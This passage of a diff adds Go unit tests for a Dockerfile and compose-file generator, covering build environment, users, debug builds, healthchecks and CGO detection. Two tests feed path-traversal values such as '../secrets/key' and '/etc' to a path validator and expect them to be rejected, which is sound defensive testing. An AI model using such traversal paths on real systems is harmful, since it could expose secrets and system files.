+	}
+	sorted := "ENV CC=gcc\n" +
+		"ENV GOFLAGS=\"-mod=mod -tags=netgo\"\n" +
+		"ENV GOPRIVATE=github.com/company/*\n" +
+		"ENV GOPROXY=https://proxy.company.local,direct\n"
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"GOPROXY"},
+		},
+		{
+			name: "sorted",
+			d:    New().SetBuilderEnv(env),
+			want: []string{sorted + "RUN apk update"},
+		},
+		{
+			name: "after private modules",
+			d:    New().SetGoInsecure("git.company.local").SetBuilderEnv(env),
+			want: []string{"ENV GOINSECURE=git.company.local\n" + sorted},
+		},
+		{
+			name: "deps stage",
+			d:    New().SetSeparateDepsStage(true).SetBuilderEnv(env),
+			want: []string{"as deps\n" + sorted, "as builder\n" + sorted},
+		},
+		{
+			name: "variable is not expanded",
+			d:    New().SetBuilderEnv(map[string]string{"GOFLAGS": "-ldflags=-X=main.home=$HOME"}),
+			want: []string{`ENV GOFLAGS="-ldflags=-X=main.home=\$HOME"` + "\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d, goMod...)
+			checkDockerfile(t, got, tt.want, tt.wantN)
+			for i := 0; i < 3 && len(tt.want) > 0; i++ {
+				if again := generateDockerfile(t, tt.d, goMod...); again != got {
+					t.Errorf("GenerateDockerfile() = %v, want %v", again, got)
+				}
+			}
+		})
+	}
+}
+
+func TestDocen_SetTelemetryOff(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"GOTELEMETRY", "go telemetry"},
+		},
+		{
+			name: "off",
+			d:    New().SetTelemetryOff(true),
+			want: []string{"ENV GOTELEMETRY=off\nRUN go telemetry off || true\nRUN apk update"},
+		},
+		{
+			name: "off with private modules",
+			d:    New().SetGoNoSumDB("github.com/company/*").SetTelemetryOff(true),
+			want: []string{"ENV GONOSUMDB=github.com/company/*\nENV GOTELEMETRY=off\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetUser(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			want:  []string{"RUN adduser -D -g '' appuser\n", "USER appuser\n"},
+			wantN: []string{"/etc/group"},
+		},
+		{
+			name: "custom user",
+			d:    New().SetUser("gopher"),
+			want: []string{"RUN adduser -D -g '' gopher\n", "USER gopher\n"},
+		},
+		{
+			name: "custom user and group",
+			d:    New().SetUser("gopher").SetGroup("gophers"),
+			want: []string{
+				"RUN addgroup -S gophers && adduser -D -g '' -G gophers gopher\n",
+				"COPY --from=builder /etc/passwd /etc/passwd\nCOPY --from=builder /etc/group /etc/group\n",
+				"USER gopher:gophers\n",
+			},
+		},
+		{
+			name:  "numeric user",
+			d:     New().SetNumericUser(10001),
+			want:  []string{"RUN adduser -D -g '' -u 10001 appuser\n", "USER 10001\n"},
+			wantN: []string{"USER appuser"},
+		},
+		{
+			name: "numeric user and group",
+			d:    New().SetUser("gopher").SetGroup("gophers").SetNumericUser(10001),
+			want: []string{
+				"RUN addgroup -S -g 10001 gophers && adduser -D -g '' -u 10001 -G gophers gopher\n",
+				"USER 10001:10001\n",
+			},
+		},
+		{
+			name: "supplementary groups",
+			d:    New().SetSupplementaryGroups("audio", "video"),
+			want: []string{
+				"RUN adduser -D -g '' appuser && addgroup -S audio && addgroup appuser audio && " +
+					"addgroup -S video && addgroup appuser video\n",
+				"COPY --from=builder /etc/group /etc/group\n",
+				"USER appuser\n",
+			},
+		},
+		{
+			name: "group and supplementary groups",
+			d:    New().SetUser("gopher").SetGroup("gophers").SetSupplementaryGroups("audio"),
+			want: []string{
+				"RUN addgroup -S gophers && adduser -D -g '' -G gophers gopher && " +
+					"addgroup -S audio && addgroup gopher audio\n",
+				"USER gopher:gophers\n",
+			},
+		},
+		{
+			name: "supplementary groups with tinygo",
+			d:    New().SetTinyGo(true).SetSupplementaryGroups("audio", "video"),
+			want: []string{
+				"RUN useradd -M -s /usr/sbin/nologin appuser && groupadd -r audio && usermod -a -G audio appuser && " +
+					"groupadd -r video && usermod -a -G video appuser\n",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetDebugBuild(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "disabled",
+			d:     New(),
+			want:  []string{"-ldflags=\"-w -s\"", "FROM scratch\n"},
+			wantN: []string{"dlv", "-gcflags", "FROM alpine\n"},
+		},
+		{
+			name: "enabled",
+			d:    New().SetDebugBuild(true),
+			want: []string{
+				"RUN go install github.com/go-delve/delve/cmd/dlv@latest\n",
+				"go build -gcflags=\"all=-N -l\" -o /app\n",
+				"FROM alpine\n",
+				"COPY --from=builder /go/bin/dlv /dlv\n",
+				"EXPOSE 40000\n",
+				"ENTRYPOINT [\"/dlv\", \"--listen=:40000\", \"--headless=true\", \"--api-version=2\", \"exec\", \"/app\"]\n",
+			},
+			wantN: []string{"-ldflags", "FROM scratch\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfileVariants(t *testing.T) {
+	tests := []struct {
+		name      string
+		d         *Docen
+		prodName  string
+		debugName string
+		prodImage string
+		wantFiles []string
+	}{
+		{
+			name:      "default",
+			d:         New().SetPort("8080"),
+			prodName:  "Dockerfile",
+			debugName: "Dockerfile.debug",
+			prodImage: "scratch",
+			wantFiles: []string{"Dockerfile", "Dockerfile.debug"},
+		},
+		{
+			name:      "debug build is set",
+			d:         New().SetPort("8080").SetDebugBuild(true).SetEntrypointScript("#!/bin/sh"),
+			prodName:  "prod.Dockerfile",
+			debugName: "debug.Dockerfile",
+			prodImage: "alpine",
+			wantFiles: []string{"prod.Dockerfile", "debug.Dockerfile", entrypointScript},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			isDebugBuild := tt.d.isDebugBuild
+			got := runProject(t, fakeProject{}, func() error {
+				return tt.d.GenerateDockerfileVariants(tt.prodName, tt.debugName)
+			})
+			if len(got) != len(tt.wantFiles) {
+				t.Errorf("GenerateDockerfileVariants() files = %v, want %v", len(got), tt.wantFiles)
+			}
+			for _, name := range tt.wantFiles {
+				if _, ok := got[name]; !ok {
+					t.Errorf("GenerateDockerfileVariants() file %s is not created", name)
+				}
+			}
+			checkDockerfile(
+				t,
+				got[tt.prodName],
+				[]string{"-ldflags=\"-w -s\"", "FROM " + tt.prodImage + "\n", "EXPOSE 8080\n"},
+				[]string{"dlv"},
+			)
+			checkDockerfile(
+				t,
+				got[tt.debugName],
+				[]string{"go build -gcflags=\"all=-N -l\" -o /app\n", "FROM alpine\n", "EXPOSE 8080\nEXPOSE 40000\n"},
+				[]string{"-ldflags", "FROM scratch\n"},
+			)
+			if tt.d.isDebugBuild != isDebugBuild {
+				t.Errorf("GenerateDockerfileVariants() changed debug build to %v", tt.d.isDebugBuild)
+			}
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfileVariants_invalidNames(t *testing.T) {
+	tests := []struct {
+		name      string
+		prodName  string
+		debugName string
+	}{
+		{name: "empty prod name", prodName: "", debugName: "Dockerfile.debug"},
+		{name: "empty debug name", prodName: "Dockerfile", debugName: ""},
+		{name: "same names", prodName: "Dockerfile", debugName: "Dockerfile"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := New().GenerateDockerfileVariants(tt.prodName, tt.debugName); err == nil {
+				t.Errorf("GenerateDockerfileVariants() error = %v, wantErr true", err)
+			}
+		})
+	}
+}
+
+func TestDocen_SetHermeticBuild(t *testing.T) {
+	goMod := []fs.FileInfo{&fakeFile{name: "go.mod"}, &fakeFile{name: "go.sum"}}
+	vendor := append([]fs.FileInfo{&fakeFolder{name: "vendor"}}, goMod...)
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		files []fs.FileInfo
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "vendor mode",
+			d:     New().SetHermeticBuild(true),
+			files: vendor,
+			want:  []string{"RUN --network=none CGO_ENABLED=0", "go build -mod=vendor"},
+			wantN: []string{"go mod download", "COPY go.mod"},
+		},
+		{
+			name:  "vendor mode without hermetic build",
+			d:     New(),
+			files: vendor,
+			want:  []string{"RUN CGO_ENABLED=0", "go build -mod=vendor"},
+			wantN: []string{"go mod download", "--network=none"},
+		},
+		{
+			name:  "module mode",
+			d:     New().SetHermeticBuild(true),
+			files: goMod,
+			want:  []string{"RUN go mod download\n", "RUN CGO_ENABLED=0"},
+			wantN: []string{"--network=none", "-mod=vendor"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d, tt.files...), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetArches(t *testing.T) {
+	got := generateDockerfile(t, New().SetGoVersion("1.16").SetArches("amd64", "arm64", "arm").SetGoArm("7"))
+
+	want := []string{
+		"ARG TARGETARCH=amd64\nFROM golang:1.16-alpine as builder-amd64\n",
+		"FROM golang:1.16-alpine as builder-arm64\n",
+		"FROM golang:1.16-alpine as builder-arm\n",
+		"RUN CGO_ENABLED=0 GOOS=linux GOARCH=amd64 go build",
+		"RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm64 go build",
+		"RUN CGO_ENABLED=0 GOOS=linux GOARCH=arm GOARM=7 go build",
+		"FROM builder-${TARGETARCH} as builder\nFROM scratch\n",
+	}
+	checkDockerfile(t, got, want, []string{"as builder\nRUN"})
+
+	if n := strings.Count(got, "FROM golang:"); n != 3 {
+		t.Errorf("GenerateDockerfile() builder stages = %v, want %v", n, 3)
+	}
+}
+
+func TestDocen_SetEnvFromHost(t *testing.T) {
+	oldGetenv := getenv
+	defer func() {
+		getenv = oldGetenv
+	}()
+	getenv = func(key string) string {
+		return map[string]string{
+			"CI_COMMIT_SHA": "abc123",
+			"CI_COMMIT_MSG": "fix \"quotes\"",
+		}[key]
+	}
+
+	d := New().
+		SetEnvFromHost("CI_COMMIT_SHA", "COMMIT_SHA").
+		SetEnvFromHost("CI_COMMIT_MSG", "COMMIT_MSG").
+		SetEnvFromHost("CI_UNSET", "UNSET")
+
+	want := []string{
+		"ENV COMMIT_SHA=abc123\n",
+		"ENV COMMIT_MSG=\"fix \\\"quotes\\\"\"\n",
+	}
+	checkDockerfile(t, generateDockerfile(t, d), want, []string{"UNSET"})
+}
+
+func TestDocen_SetPortFromEnv(t *testing.T) {
+	oldGetenv := getenv
+	defer func() {
+		getenv = oldGetenv
+	}()
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		env   map[string]string
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "PORT is set",
+			d:    New().SetPortFromEnv(true),
+			env:  map[string]string{"PORT": "5000"},
+			want: []string{"EXPOSE 5000\n"},
+		},
+		{
+			name:  "PORT is unset",
+			d:     New().SetPortFromEnv(true),
+			env:   map[string]string{},
+			wantN: []string{"EXPOSE"},
+		},
+		{
+			name: "PORT is unset with default port",
+			d:    New().SetPortFromEnv(true).SetDefaultPort("8080"),
+			env:  map[string]string{},
+			want: []string{"EXPOSE 8080\n"},
+		},
+		{
+			name:  "disabled",
+			d:     New(),
+			env:   map[string]string{"PORT": "5000"},
+			wantN: []string{"EXPOSE"},
+		},
+		{
+			name: "port set explicitly",
+			d:    New().SetPortFromEnv(true).SetPort("3000"),
+			env:  map[string]string{"PORT": "5000"},
+			want: []string{"EXPOSE 3000\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			getenv = func(key string) string { return tt.env[key] }
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func Test_validatePath(t *testing.T) {
+	tests := []struct {
+		name    string
+		path    string
+		wantErr bool
+	}{
+		{name: "parent folder", path: "../x", wantErr: true},
+		{name: "nested parent folder", path: "static/../../x", wantErr: true},
+		{name: "absolute path", path: "/etc", wantErr: true},
+		{name: "relative path", path: "my-folder/some-files", wantErr: false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := validatePath(tt.path); (err != nil) != tt.wantErr {
+				t.Errorf("validatePath() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestDocen_GenerateDockerfile_invalidPath(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+	}{
+		{name: "parent folder", d: New().SetAdditionalFolder("../secrets")},
+		{name: "absolute folder", d: New().SetAdditionalFolder("/etc")},
+		{name: "parent file", d: New().SetAdditionalFile("../secrets/key")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := tt.d.GenerateDockerfile(); err == nil {
+				t.Errorf("GenerateDockerfile() error = %v, wantErr %v", err, true)
+			}
+			if len(tt.d.additionFolders) != 0 || len(tt.d.additionFiles) != 0 {
+				t.Errorf("invalid path is added: %v %v", tt.d.additionFolders, tt.d.additionFiles)
+			}
+		})
+	}
+}
+
+func TestDocen_SetMinimizeLayers(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "disabled",
+			d:    New().SetAdditionalFolder("static").SetAdditionalFolder("config"),
+			want: []string{"RUN mkdir -p /app\nRUN mkdir -p /app/config\nRUN mkdir -p /app/static\n"},
+		},
+		{
+			name:  "enabled",
+			d:     New().SetMinimizeLayers(true).SetAdditionalFolder("static").SetAdditionalFolder("config"),
+			want:  []string{"RUN mkdir -p /app /app/config /app/static\n"},
+			wantN: []string{"RUN mkdir -p /app\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetRuntimeOnlyFolders(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "disabled",
+			d:    New().SetAdditionalFolder("static"),
+			want: []string{"RUN mkdir -p /app\nRUN mkdir -p /app/static\n", "COPY --from=builder /app/static /app/static\n"},
+		},
+		{
+			name:  "enabled",
+			d:     New().SetRuntimeOnlyFolders(true).SetAdditionalFolder("static").SetAdditionalFile("config/app.yaml"),
+			want:  []string{"RUN mkdir -p /app\nWORKDIR /app\n", "COPY --from=builder /app/static /app/static\n"},
+			wantN: []string{"mkdir -p /app/"},
+		},
+		{
+			name:  "enabled with minimized layers",
+			d:     New().SetRuntimeOnlyFolders(true).SetMinimizeLayers(true).SetAdditionalFolder("static"),
+			want:  []string{"RUN mkdir -p /app\n", "COPY --from=builder /app/static /app/static\n"},
+			wantN: []string{"mkdir -p /app /app/static"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetHealthcheckBinary(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "not set",
+			d:     New(),
+			wantN: []string{"HEALTHCHECK", "/healthcheck"},
+		},
+		{
+			name: "set",
+			d:    New().SetHealthcheckBinary("/go/bin/grpc_health_probe"),
+			want: []string{
+				"COPY --from=builder /go/bin/grpc_health_probe /healthcheck\n",
+				"HEALTHCHECK CMD [\"/healthcheck\"]\n",
+			},
+		},
+		{
+			name: "with arguments",
+			d:    New().SetHealthcheckBinary("/go/bin/grpc_health_probe", "-addr=:50051", "-service=app"),
+			want: []string{
+				"COPY --from=builder /go/bin/grpc_health_probe /healthcheck\n",
+				"HEALTHCHECK CMD [\"/healthcheck\", \"-addr=:50051\", \"-service=app\"]\n",
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetHTTPHealthcheck(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    []string
+		wantN   []string
+		wantErr bool
+	}{
+		{
+			name: "port and path",
+			d:    New().SetPort("8080").SetHTTPHealthcheck("/healthz"),
+			want: []string{
+				"FROM alpine\n",
+				"EXPOSE 8080\nHEALTHCHECK CMD [\"wget\", \"-q\", \"--spider\", \"http://localhost:8080/healthz\"]\n",
+			},
+			wantN: []string{"FROM scratch"},
+		},
+		{
+			name: "port range and relative path",
+			d:    New().SetPort("3000-4000").SetHTTPHealthcheck("status"),
+			want: []string{"HEALTHCHECK CMD [\"wget\", \"-q\", \"--spider\", \"http://localhost:3000/status\"]\n"},
+		},
+		{
+			name: "port with protocol",
+			d:    New().SetPort("8080/tcp").SetHTTPHealthcheck("/healthz"),
+			want: []string{
+				"EXPOSE 8080/tcp\nHEALTHCHECK CMD [\"wget\", \"-q\", \"--spider\", \"http://localhost:8080/healthz\"]\n",
+			},
+		},
+		{
+			name: "port range with protocol",
+			d:    New().SetPort("3000-4000/tcp").SetHTTPHealthcheck("/healthz"),
+			want: []string{"\"http://localhost:3000/healthz\"]\n"},
+		},
+		{
+			name:  "healthcheck binary takes precedence",
+			d:     New().SetPort("8080").SetHTTPHealthcheck("/healthz").SetHealthcheckBinary("/go/bin/grpc_health_probe"),
+			want:  []string{"FROM scratch\n", "HEALTHCHECK CMD [\"/healthcheck\"]\n"},
+			wantN: []string{"wget"},
+		},
+		{
+			name:    "without port",
+			d:       New().SetHTTPHealthcheck("/healthz"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if _, err := tt.d.render(); err == nil {
+					t.Errorf("render() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetFolderIgnore(t *testing.T) {
+	want := additionalInfo{
+		"static":         true,
+		"config/fixture": true,
+	}
+
+	d := New().SetHooks(Hooks{
+		ReadDir: func(dirname string) ([]fs.FileInfo, error) {
+			return []fs.FileInfo{
+				&fakeFolder{name: "static"},
+				&fakeFolder{name: "config"},
+				&fakeFolder{name: "templates"},
+			}, nil
+		},
+	}).SetAdditionalFolder("config/fixture")
+	t.Run(t.Name(), func(t *testing.T) {
+		if got := d.SetFolderIgnore("conf*", "temp*", "config/*").getFolders(); !reflect.DeepEqual(got, want) {
+			t.Errorf("getFolders() = %v, want %v", got, want)
+		}
+	})
+}
+
+func TestDocen_GenerateImageSpec(t *testing.T) {
+	tests := []struct {
+		name string
+		d    *Docen
+		want string
+	}{
+		{
+			name: "default",
+			d:    New(),
+			want: `{
+  "user": "appuser",
+  "entrypoint": [
+    "/app"
+  ]
+}
+`,
+		},
+		{
+			name: "configured",
+			d:    New().SetPort("3000").SetUser("gopher").SetGroup("gophers").SetEntrypointScript("#!/bin/sh"),
+			want: `{
+  "exposedPorts": [
+    "3000"
+  ],
+  "user": "gopher:gophers",
+  "entrypoint": [
+    "/app/entrypoint.sh"
+  ]
+}
+`,
+		},
+		{
+			name: "minimal TLS",
+			d:    New().SetMinimalTLS(true),
+			want: `{
+  "user": "65534:65534",
+  "entrypoint": [
+    "/app"
+  ]
+}
+`,
+		},
+		{
+			name: "minimal TLS with numeric user",
+			d:    New().SetMinimalTLS(true).SetNumericUser(1000).SetUser("gopher"),
+			want: `{
+  "user": "1000:1000",
+  "entrypoint": [
+    "/app"
+  ]
+}
+`,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			files := runProject(t, fakeProject{}, tt.d.GenerateImageSpec)
+			if got := files["image-spec.json"]; got != tt.want {
+				t.Errorf("GenerateImageSpec() = %v, want %v", got, tt.want)
+			}
+			var spec imageSpec
+			if err := json.Unmarshal([]byte(tt.want), &spec); err != nil {
+				t.Fatalf("json.Unmarshal() error = %v", err)
+			}
+			checkDockerfile(t, generateDockerfile(t, tt.d), []string{fmt.Sprintf("USER %s\n", spec.User)}, nil)
+		})
+	}
+}
+
+func TestDocen_GenerateComposeFile(t *testing.T) {
+	tests := []struct {
+		name    string
+		d       *Docen
+		want    string
+		wantErr bool
+	}{
+		{
+			name: "default",
+			d:    New(),
+			want: "services:\n  app:\n    build: .\n",
+		},
+		{
+			name: "port",
+			d:    New().SetPort("8080"),
+			want: "services:\n  app:\n    build: .\n    ports:\n      - \"8080:8080\"\n",
+		},
+		{
+			name: "module cache volume",
+			d:    New().SetPort("8080").SetComposeModCacheVolume("gomodcache"),
+			want: "services:\n" +
+				"  app:\n" +
+				"    build: .\n" +
+				"    ports:\n" +
+				"      - \"8080:8080\"\n" +
+				"    volumes:\n" +
+				"      - gomodcache:/go/pkg/mod\n" +
+				"volumes:\n" +
+				"  gomodcache:\n",
+		},
+		{
+			name: "module cache volume with custom GOPATH",
+			d:    New().SetGoPath("/gopath").SetComposeModCacheVolume("gomodcache"),
+			want: "services:\n" +
+				"  app:\n" +
+				"    build: .\n" +
+				"    volumes:\n" +
+				"      - gomodcache:/gopath/pkg/mod\n" +
+				"volumes:\n" +
+				"  gomodcache:\n",
+		},
+		{
+			name:    "invalid volume name",
+			d:       New().SetComposeModCacheVolume("go mod cache"),
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if tt.wantErr {
+				if err := tt.d.GenerateComposeFile(); err == nil {
+					t.Errorf("GenerateComposeFile() error = %v, wantErr %v", err, tt.wantErr)
+				}
+				return
+			}
+			files := runProject(t, fakeProject{}, tt.d.GenerateComposeFile)
+			if got := files["compose.yaml"]; got != tt.want {
+				t.Errorf("GenerateComposeFile() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_GenerateDockerignore(t *testing.T) {
+	tests := []struct {
+		name     string
+		existing string
+		want     string
+	}{
+		{
+			name: "new file",
+			want: ".git\n.idea\n.vscode\nDockerfile\n.dockerignore\n",
+		},
+		{
+			name:     "existing file",
+			existing: "# local files\n.env\n*.log\n\n.git\nbin/\n",
+			want:     "# local files\n.env\n*.log\n\n.git\nbin/\n.idea\n.vscode\nDockerfile\n.dockerignore\n",
+		},
+		{
+			name:     "existing file with duplicates",
+			existing: ".env\n  .vscode\n.env\nDockerfile\n.idea\n.dockerignore\n.git\n",
+			want:     ".env\n  .vscode\nDockerfile\n.idea\n.dockerignore\n.git\n",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := fakeProject{contents: map[string]string{}}
+			if tt.existing != "" {
+				p.contents[".dockerignore"] = tt.existing
+			}
+			files := runProject(t, p, New().GenerateDockerignore)
+			if got := files[".dockerignore"]; got != tt.want {
+				t.Errorf("GenerateDockerignore() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDocen_SetCombineCopies(t *testing.T) {
+	newDocen := func() *Docen {
+		return New().
+			SetAdditionalFolder("static").
+			SetAdditionalFolder("static/img").
+			SetAdditionalFile("config/app.yaml").
+			SetAdditionalFile("config/db/db.yaml")
+	}
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+		count int
+	}{
+		{
+			name: "disabled",
+			d:    newDocen(),
+			want: []string{
+				"COPY --from=builder /app/static/img /app/static/img\n",
+				"COPY --from=builder /app/config/app.yaml /app/config/app.yaml\n",
+			},
+			count: 9,
+		},
+		{
+			name: "enabled",
+			d:    newDocen().SetCombineCopies(true),
+			want: []string{
+				"COPY --from=builder /app/static /app/static\n",
+				"COPY --from=builder /app/config /app/config\n",
+			},
+			wantN: []string{"COPY --from=builder /app/static/img", "COPY --from=builder /app/config/"},
+			count: 5,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := generateDockerfile(t, tt.d)
+			checkDockerfile(t, got, tt.want, tt.wantN)
+			if n := strings.Count(got, "COPY --from=builder"); n != tt.count {
+				t.Errorf("GenerateDockerfile() COPY layers = %v, want %v", n, tt.count)
+			}
+		})
+	}
+}
+
+func TestDocen_SetBuildParallelism(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "not set",
+			d:     New().SetBuildParallelism(0),
+			want:  []string{"go build -ldflags"},
+			wantN: []string{"go build -p"},
+		},
+		{
+			name: "set",
+			d:    New().SetBuildParallelism(2),
+			want: []string{"go build -p 2 -ldflags"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetGcflags(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			wantN: []string{"-gcflags"},
+		},
+		{
+			name: "gcflags",
+			d:    New().SetGcflags("-m -l"),
+			want: []string{"go build -gcflags=\"-m -l\" -ldflags=\"-w -s\" -o /app\n"},
+		},
+		{
+			name: "gcflags with version and package pattern",
+			d:    New().SetGcflags("all=-B").SetAppVersionArg("main.version"),
+			want: []string{"go build -gcflags=\"all=-B\" -ldflags=\"-w -s -X main.version=${APP_VERSION}\" -o /app\n"},
+		},
+		{
+			name: "debug build",
+			d:    New().SetGcflags("-m").SetDebugBuild(true),
+			want: []string{"go build -gcflags=\"all=-N -l\" -gcflags=\"-m\" -o /app\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetVerboseBuild(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "default",
+			d:     New(),
+			want:  []string{"go build -ldflags"},
+			wantN: []string{" -v ", " -x "},
+		},
+		{
+			name:  "verbose",
+			d:     New().SetVerboseBuild(true),
+			want:  []string{"go build -v -ldflags"},
+			wantN: []string{" -x "},
+		},
+		{
+			name: "verbose with trace",
+			d:    New().SetVerboseBuild(true).SetBuildTrace(true).SetBuildParallelism(2),
+			want: []string{"go build -v -x -p 2 -ldflags"},
+		},
+		{
+			name: "go install",
+			d:    New().SetVerboseBuild(true).SetUseInstall(true),
+			want: []string{"go install -v -ldflags"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetCGO(t *testing.T) {
+	tests := []struct {
+		name  string
+		d     *Docen
+		want  []string
+		wantN []string
+	}{
+		{
+			name: "disabled",
+			d:    New().SetTestMode(true),
+			want: []string{
+				"apk add --no-cache git ca-certificates tzdata &&",
+				"RUN CGO_ENABLED=0 go test ./...\n",
+				"RUN CGO_ENABLED=0 GOOS=linux",
+				"FROM scratch\n",
+			},
+			wantN: []string{"musl-dev", "FROM alpine\n"},
+		},
+		{
+			name: "enabled",
+			d:    New().SetTestMode(true).SetCGO(true),
+			want: []string{
+				"apk add --no-cache git ca-certificates tzdata gcc musl-dev &&",
+				"RUN CGO_ENABLED=1 go test ./...\n",
+				"RUN CGO_ENABLED=1 GOOS=linux",
+				"FROM alpine\n",
+			},
+			wantN: []string{"CGO_ENABLED=0", "FROM scratch\n"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			checkDockerfile(t, generateDockerfile(t, tt.d), tt.want, tt.wantN)
+		})
+	}
+}
+
+func TestDocen_SetAutoCGO(t *testing.T) {
+	sqlite := "module github.com/lobz1g/app\n\ngo 1.16\n\nrequire (\n" +
+		"\tgithub.com/gorilla/mux v1.8.0\n\tgithub.com/mattn/go-sqlite3 v1.14.16\n)\n"
+	kafka := "module github.com/lobz1g/app\n\ngo 1.16\n\nrequire github.com/confluentinc/confluent-kafka-go/v2 v2.3.0\n"
+	pure := "module github.com/lobz1g/app\n\ngo 1.16\n\nrequire github.com/gorilla/mux v1.8.0\n"
+
+	tests := []struct {
+		name  string
+		d     *Docen
+		goMod string
+		want  []string
+		wantN []string
+	}{
+		{
+			name:  "require block",
+			d:     New().SetAutoCGO(true),
+			goMod: sqlite,
+			want:  []string{"gcc musl-dev", "RUN CGO_ENABLED=1 GOOS=linux", "FROM alpine\n"},
+			wantN: []string{"CGO_ENABLED=0", "FROM scratch\n"},
+		},
+		{
+			name:  "single require with major version",
+			d:     New().SetAutoCGO(true),
+			goMod: kafka,
+			want:  []string{"RUN CGO_ENABLED=1 GOOS=linux"},
+		},
+		{
+			name:  "without cgo modules",
+			d:     New().SetAutoCGO(true),
+			goMod: pure,
+			want:  []string{"RUN CGO_ENABLED=0 GOOS=linux", "FROM scratch\n"},
+			wantN: []string{"musl-dev"},
+		},
+		{
+			name:  "disabled",
+			d:     New(),
+			goMod: sqlite,
+			want:  []string{"RUN CGO_ENABLED=0 GOOS=linux"},
